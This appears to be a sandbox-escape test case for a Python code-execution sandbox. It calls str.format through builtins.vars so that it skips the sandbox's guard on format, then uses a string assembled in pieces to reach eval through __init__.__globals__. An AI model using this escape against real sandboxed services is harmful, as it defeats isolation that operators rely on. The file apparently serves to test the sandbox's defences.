# technique: import builtins; builtins.vars(str)['format'](tpl, exit) bypasses the attribute-call rewrite of format
# configs: default, stdlib_all
# stdlib_all: in-process — its proof (a builtin) is importable under * through builtins
# With nothing allowed `import builtins` is refused; under stdlib * builtins is importable by design,
# so this aims at the format guard: the template reads blocked attributes.
import builtins
u = '_' * 2
tpl = '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[' + u + 'builtins' + u + '][eval]}'
text = builtins.vars(str)['format'](tpl, exit)
if 'built-in function eval' in text:
    return [{'json': {'escaped': text}}]
return [{'json': {'result': text}}]
